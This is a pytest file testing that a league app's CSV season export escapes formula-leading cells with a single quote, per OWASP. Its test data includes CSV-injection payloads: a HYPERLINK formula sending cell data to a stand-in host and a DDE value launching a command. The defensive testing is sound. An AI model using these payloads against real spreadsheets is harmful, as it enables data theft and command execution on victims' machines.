"""A season's CSV export writes a text cell that a spreadsheet would run as a formula (it begins with `=`,
`+`, `-`, `@`, a tab or a carriage return: OWASP's rule) with a leading single quote."""

from __future__ import annotations

import csv
import io

import pytest
from sheet_helpers import league_night, recorded

from maumau.spreadsheets import SafeWriter, csv_cell

pytestmark = pytest.mark.django_db

NAMES = ['=HYPERLINK("http://x.example/?"&A1,"Ada")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]


def test_names_that_begin_like_a_formula_are_text_in_the_export(make_player):
    league, (owner,) = league_night(make_player, 1)
    lid = league["id"]
    clients = []
    for name in NAMES:
        client = make_player(name)
        assert client.post(f"/api/v1/leagues/{lid}/join", {"code": league["invite_code"]},
                           format="json").status_code == 200
        clients.append(client)
    lines = [{"player": owner.player_id, "cards": []}] + [{"player": c.player_id, "points": 3} for c in clients]
    recorded(owner, lid, lines, owner.player_id)

    answer = owner.get(f"/api/v1/leagues/{lid}/seasons/1/export?format=csv")

    assert answer.status_code == 200
    rows = list(csv.reader(io.StringIO(answer.content.decode())))
    names = {row[7] for row in rows[1:]}
    assert names == {"Member0", *("'" + name for name in NAMES)}


@pytest.mark.parametrize("value", ["=1", "+1", "-1", "@A1", "\tcalc", "\rcalc"])
def test_every_formula_start_of_owasps_list_is_escaped(value):
    out = io.StringIO()

    SafeWriter(out).writerow([value, "Ada", 3])

    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'" + value, "Ada", "3"]
    assert csv_cell("Ada = Bert") == "Ada = Bert" and csv_cell(-1) == -1
